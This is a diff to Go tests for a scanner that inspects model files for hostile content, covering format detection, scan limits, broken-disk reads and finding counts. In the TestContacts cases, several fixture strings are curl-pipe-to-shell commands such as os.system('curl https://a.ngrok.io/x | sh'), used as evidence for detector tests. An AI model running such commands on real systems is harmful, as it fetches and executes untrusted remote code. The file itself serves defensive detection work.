@@ -103,13 +103,29 @@ func TestScan(t *testing.T) {
 			rules: []string{"model-unrecognised"}, reason: "named like a model, but of no known format"},
 		{name: "text that is encrypted", file: "m.pt", data: "-----BEGIN PGP MESSAGE-----\n\nhQEMA\n-----END PGP MESSAGE-----\n", status: audit.Incomplete,
 			rules: []string{"model-unrecognised"}, reason: "named like a model, but of no known format"},
-		{name: "text where none is usual", file: "m.h5", data: "a text that is long enough", status: audit.Incomplete,
+		{name: "text that is encrypted, of any length", file: "m.pt", data: strings.Repeat("text ", 200) + "-----BEGIN AGE ENCRYPTED FILE-----\n", status: audit.Incomplete,
 			rules: []string{"model-unrecognised"}, reason: "named like a model, but of no known format"},
-		{name: "findings before a fault stand", data: "toy:!f!", status: audit.Incomplete, rules: []string{"scan-incomplete", "toy-bad"},
+		{name: "text of 512 characters", file: "m.pt", data: strings.Repeat("t", 512), status: audit.NotAModel, reason: "of no format that a model loader takes"},
+		{name: "text with tabs and ends of lines", file: "m.pt", data: strings.Repeat("\t\r\n \v\f~\xed", 99), status: audit.NotAModel, reason: "of no format that a model loader takes"},
+		{name: "text with a backspace", file: "m.pt", data: strings.Repeat("text", 200) + "\b", status: audit.Incomplete,
+			rules: []string{"model-unrecognised"}, reason: "named like a model, but of no known format"},
+		{name: "text with a shift", file: "m.pt", data: strings.Repeat("text", 200) + "\x0e", status: audit.Incomplete,
+			rules: []string{"model-unrecognised"}, reason: "named like a model, but of no known format"},
+		{name: "text with a deletion", file: "m.pt", data: strings.Repeat("text", 200) + "\x7f", status: audit.Incomplete,
+			rules: []string{"model-unrecognised"}, reason: "named like a model, but of no known format"},
+		{name: "text as large as is looked through", file: "m.pt", data: strings.Repeat("text", 1<<18), status: audit.NotAModel, reason: "of no format that a model loader takes"},
+		{name: "text that is larger", file: "m.pt", data: strings.Repeat("text", 1<<18) + ".", status: audit.Incomplete,
+			rules: []string{"model-unrecognised"}, reason: "named like a model, but of no known format"},
+		{name: "data of IDL", file: "m.sav", data: "SR\x00\x04", status: audit.NotAModel, reason: "of no format that a model loader takes"},
+		{name: "text where none is usual", file: "m.h5", data: strings.Repeat("a text that is long enough ", 99), status: audit.Incomplete,
+			rules: []string{"model-unrecognised"}, reason: "named like a model, but of no known format"},
+		{name: "findings before a fault stand", data: "toy:!f!", status: audit.Incomplete, rules: []string{"toy-bad", "scan-incomplete"},
 			reason: "malformed at byte 0x6: an f"},
-		{name: "a part", data: "toy:iii!", status: audit.Incomplete, rules: []string{"scan-incomplete", "toy-bad"},
+		{name: "a part", data: "toy:iii!", status: audit.Incomplete, rules: []string{"toy-bad", "scan-incomplete"},
 			reason: "unsupported at byte 0x4: encrypted"},
-		{name: "crash", data: "toy:!c", status: audit.Incomplete, rules: []string{"scan-crashed", "toy-bad"}, reason: "crashed: nil map"},
+		{name: "two causes", data: "toy:if", status: audit.Incomplete, rules: []string{"scan-incomplete", "scan-incomplete"},
+			reason: "unsupported at byte 0x4: encrypted"},
+		{name: "crash", data: "toy:!c", status: audit.Incomplete, rules: []string{"toy-bad", "scan-crashed"}, reason: "crashed: nil map"},
 		{name: "crash of the match", file: "m.pkl", data: "crash-match", status: audit.Incomplete, rules: []string{"scan-crashed"},
 			reason: "crashed: index out of range"},
 		{name: "refused", data: "toy:r", status: audit.NotScanned, reason: "stored elsewhere"},
@@ -148,7 +164,6 @@ func ruleIDs(f audit.File) (ids []string) {
 	for _, found := range f.Findings {
 		ids = append(ids, found.Rule.ID)
 	}
-	slices.Sort(ids)
 	return ids
 }
 
@@ -156,6 +171,9 @@ func TestNestingIsNamed(t *testing.T) {
 	got := scanned(hostile.DefaultLimits(), "m.bin", "toy:(toy:(toy:!")
 	if len(got.Findings) != 1 {
 		t.Fatalf("got %v, want one finding", got.Findings)
+	}
+	if !slices.Equal(got.Formats, []string{"toy"}) {
+		t.Errorf("got formats %q, want toy, once", got.Formats)
 	}
 	where := got.Findings[0].Location
 	if where.Path != "m.bin" || !slices.Equal(where.Inside, []string{"inner.pkl", "inner.pkl"}) || where.Offset != 4 {
@@ -178,12 +196,117 @@ func TestOneBudget(t *testing.T) {
 	}
 }
 
+// TestWhereUnread: what was not read is told with its place.
+func TestWhereUnread(t *testing.T) {
+	for data, want := range map[string]int64{"toy:f": 5, "toy:!!i": 6, "toy:m": 0} {
+		found := scanned(hostile.DefaultLimits(), "", data).Findings
+		last := found[len(found)-1]
+		if last.Rule.ID != "scan-incomplete" || last.Location.Offset != want || last.Evidence[0].Offset != want {
+			t.Errorf("%q: got %s at %d, evidence at %d, want scan-incomplete at %d", data, last.Rule.ID, last.Location.Offset, last.Evidence[0].Offset, want)
+		}
+	}
+}
+
+// TestBinary: what is of no format is told to be binary unless it starts as text.
+func TestBinary(t *testing.T) {
+	for _, c := range []struct {
+		name, data string
+		want       bool
+	}{
+		{name: "text", data: " a\tb\r\nc\f"},
+		{name: "the sign for what is no character", data: "a\ufffdb"},
+		{name: "nothing", data: ""},
+		{name: "a character that is cut", data: "a\xe2\x82"},
+		{name: "no character", data: "a\xffb", want: true},
+		{name: "no character at the end", data: "a\xff", want: true},
+		{name: "a control character", data: "a\x01", want: true},
+		{name: "in a file of a known format", data: "toy:(\x01"},
+	} {
+		if got := scanned(hostile.DefaultLimits(), "", c.data); got.Binary != c.want {
+			t.Errorf("%s, %q: got %v, want %v", c.name, c.data, got.Binary, c.want)
+		}
+	}
+}
+
+// broken is content of which the disk returns nothing from an offset on.
+type broken int64
+
+func (b broken) ReadAt(p []byte, off int64) (int, error) {
+	n := min(max(0, int64(b)-off), int64(len(p)))
+	copy(p, "toy:"[min(off, 4):])
+	if n < int64(len(p)) {
+		return int(n), errors.New("input/output error")
+	}
+	return int(n), nil
+}
+
+// TestBrokenDisk: what the disk does not return was not read, be it needed to know the
+// file or for its digest alone.
+func TestBrokenDisk(t *testing.T) {
+	for _, c := range []struct {
+		name   string
+		at     broken
+		rules  []string
+		digest bool
+	}{
+		{name: "at once", at: 0, rules: []string{"scan-incomplete"}},
+		{name: "behind the start", at: 4096, rules: []string{"scan-incomplete"}},
+		{name: "behind the end", at: 1 << 20, digest: true},
+	} {
+		silent := &detector.Detector{Name: "silent", Match: func(h artifact.Head) bool { return h.HasPrefix("toy:") }, Run: func(_ context.Context, p *detector.Pass) error {
+			p.Recognised("silent")
+			return nil
+		}}
+		s := scan.Scanner{Detectors: []*detector.Detector{silent}, Limits: hostile.DefaultLimits(), Now: time.Now, Digest: true}
+		got := s.File(context.Background(), artifact.File{Path: "m", Content: c.at, Size: 1 << 20})
+		if ids := ruleIDs(got); !slices.Equal(ids, c.rules) || (got.Digest != nil) != c.digest || (got.Status == audit.Clean) != c.digest {
+			t.Errorf("%s: got %v, %s (%s), digest %x", c.name, ids, got.Status, got.Reason, got.Digest)
+		}
+	}
+}
+
+// TestSiblings: files beside one another in a container are no deeper than one, and a
+// detector hears that the budget is spent.
+func TestSiblings(t *testing.T) {
+	for _, c := range []struct {
+		name    string
+		members int64
+		status  audit.Status
+		heard   int // how many were handed on before an error
+	}{
+		{name: "as many as may be", members: 3, status: audit.Clean, heard: 3},
+		{name: "more", members: 2, status: audit.Incomplete, heard: 2},
+	} {
+		heard := 0
+		box := &detector.Detector{Name: "box", Match: func(h artifact.Head) bool { return h.Depth == 0 }, Run: func(_ context.Context, p *detector.Pass) error {
+			p.Recognised("box")
+			for range 3 {
+				if err := p.Part("inner", 0, 4); err != nil {
+					return err
+				}
+				heard++
+			}
+			return nil
+		}}
+		limits := hostile.DefaultLimits()
+		limits.Depth, limits.Members = 1, c.members
+		s := scan.Scanner{Detectors: []*detector.Detector{box}, Limits: limits, Now: time.Now}
+		got := s.File(context.Background(), artifact.File{Path: "m", Content: hostile.Bytes("text"), Size: 4})
+		if got.Status != c.status || heard != c.heard {
+			t.Errorf("%s: got %s (%s), %d handed on, want %s, %d", c.name, got.Status, got.Reason, heard, c.status, c.heard)
+		}
+	}
+}
+
 // TestManyFindings: a file cannot fill the memory with findings, nor push one
 // out of the verdict.
 func TestManyFindings(t *testing.T) {
 	got := scanned(hostile.DefaultLimits(), "", "toy:"+strings.Repeat("!", 100_000))
-	if len(got.Findings) > 3000 || got.Status != audit.Incomplete {
-		t.Fatalf("got %d findings, %s, want at most 3000, incomplete", len(got.Findings), got.Status)
+	if len(got.Findings) != 2001 || got.Status != audit.Incomplete {
+		t.Fatalf("got %d findings, %s, want 2001, incomplete", len(got.Findings), got.Status)
+	}
+	if a, b := got.Findings[0].Fingerprint(), got.Findings[1].Fingerprint(); a == b {
+		t.Errorf("two findings have one fingerprint, %s", a)
 	}
 	last := got.Findings[len(got.Findings)-1]
 	if want := "Not fully read: 98000 more findings are not listed, 2000 of a severity are."; last.Message != want {
@@ -202,8 +325,11 @@ func TestAllKeepsTheOrder(t *testing.T) {
 		t.Fatal(err)
 	}
 	s := scan.Scanner{Detectors: []*detector.Detector{toy()}, Limits: hostile.DefaultLimits(), Now: time.Now}
-	done := 0
+	done, open := 0, openFiles()
 	got := s.All(context.Background(), files, func(*audit.File) { done++ })
+	if left := openFiles() - open; left > len(files)/2 { // the runtime opens one or two
+		t.Errorf("%d of %d files are left open", left, len(files))
+	}
 	if done != 41 || len(got.Files) != 41 {
 		t.Fatalf("got %d conclusions, told of %d, want 41", len(got.Files), done)
 	}
@@ -212,6 +338,12 @@ func TestAllKeepsTheOrder(t *testing.T) {
 			t.Errorf("file %d: got %s with %d findings, want %s with %d", i, f.Path, len(f.Findings), files[i].Path, i%3)
 		}
 	}
+}
+
+// openFiles is how many files the process has open, where the system tells.
+func openFiles() int {
+	open, _ := os.ReadDir("/proc/self/fd")
+	return len(open)
 }
 
 func TestAllTellsWhatWasNotOpened(t *testing.T) {
@@ -278,11 +410,13 @@ func TestExamine(t *testing.T) {
 		name, inner string
 		found       int
 		status      audit.Status
+		rules       []string
 	}{
 		{name: "nothing", inner: "toy:", status: audit.Clean},
 		{name: "something bad", inner: "toy:!!", found: 2, status: audit.Clean},
 		{name: "damaged", inner: "toy:!f", found: 1, status: audit.Clean},
-		{name: "a crash", inner: "toy:!c", found: 1, status: audit.Incomplete},
+		{name: "a crash", inner: "toy:!c", found: 1, status: audit.Incomplete, rules: []string{"scan-crashed"}},
+		{name: "a limit", inner: "toy:@", status: audit.Incomplete, rules: []string{"scan-incomplete"}},
 	} {
 		t.Run(c.name, func(t *testing.T) {
 			found := -1
@@ -298,8 +432,8 @@ func TestExamine(t *testing.T) {
 			}
 			s := scan.Scanner{Detectors: []*detector.Detector{looks, toy()}, Limits: hostile.DefaultLimits(), Now: time.Now}
 			got := s.File(context.Background(), artifact.File{Path: "m", Content: hostile.Bytes("x"), Size: 1})
-			if found != c.found || got.Status != c.status {
-				t.Errorf("got %d findings and %s (%s), want %d and %s", found, got.Status, got.Reason, c.found, c.status)
+			if ids := ruleIDs(got); found != c.found || got.Status != c.status || !slices.Equal(ids, c.rules) {
+				t.Errorf("got %d findings, %v and %s (%s), want %d, %v and %s", found, ids, got.Status, got.Reason, c.found, c.rules, c.status)
 			}
 		})
 	}
@@ -309,21 +443,24 @@ func TestExamine(t *testing.T) {
 func TestContacts(t *testing.T) {
 	calls := &rule.Rule{ID: "toy-calls", Title: "Calls", Severity: rule.High, Precision: rule.Certain, Since: "0.1.0"}
 	mild := &rule.Rule{ID: "toy-mentions", Title: "Mentions", Severity: rule.Low, Precision: rule.Certain, Since: "0.1.0"}
+	medium := &rule.Rule{ID: "toy-may-call", Title: "May call", Severity: rule.Medium, Precision: rule.Certain, Since: "0.1.0"}
 	for _, c := range []struct {
-		name, text string
-		rule       *rule.Rule
-		want       int
+		name, text, message string
+		rule                *rule.Rule
+		want                int
 	}{
 		{name: "tunnel", rule: calls, text: "os.system('curl https://a.ngrok.io/x | sh')", want: 2},
 		{name: "two kinds", rule: calls, text: "os.system('curl https://a.ngrok.io/x https://192.0.2.1/y https://b.ngrok.io/z')", want: 3},
 		{name: "any host", rule: calls, text: "os.system('curl https://example.org/x | sh')", want: 1},
+		{name: "the mildest that counts", rule: medium, text: "os.system('curl https://a.ngrok.io/x | sh')", want: 2},
+		{name: "in the message", rule: calls, text: "os.system", message: "It calls https://a.ngrok.io/x.", want: 2},
 		{name: "no danger", rule: mild, text: "os.system('curl https://a.ngrok.io/x | sh')", want: 1},
 	} {
 		d := &detector.Detector{
 			Name:  "toy",
 			Match: func(artifact.Head) bool { return true },
 			Run: func(_ context.Context, p *detector.Pass) error {
-				p.Report(finding.Finding{Rule: c.rule, Key: "k", Message: "It calls.", Evidence: []finding.Step{{Offset: 7, Text: c.text}}})
+				p.Report(finding.Finding{Rule: c.rule, Key: "k", Message: c.message, Evidence: []finding.Step{{Offset: 7, Text: c.text}}})
 				return nil
 			},
 		}
@@ -343,7 +480,9 @@ func TestSpent(t *testing.T) {
 		}
 		return nil
 	}}
-	s := scan.Scanner{Detectors: []*detector.Detector{silent}, Limits: hostile.Limits{Steps: 100, Members: 1, Depth: 1, Time: time.Minute}, Now: time.Now}
+	s := scan.Scanner{Detectors: []*detector.Detector{silent}, Limits: hostile.Limits{Steps: 100, Members: 1, Depth: 1, Time: time.Minute}, Now: time.Now, Search: scan.SearchAll}
+	silent.Raw = detector.Weights
+	silent.Search = func(*detector.Pass, detector.Region) error { t.Error("searched for more"); return nil }
 	got := s.File(context.Background(), artifact.File{Path: "m", Content: hostile.Bytes("model"), Size: 5})
 	if got.Status != audit.Incomplete || !strings.Contains(got.Reason, "max-steps") || len(got.Findings) != 1 {
 		t.Errorf("got %s (%s) and %d findings", got.Status, got.Reason, len(got.Findings))
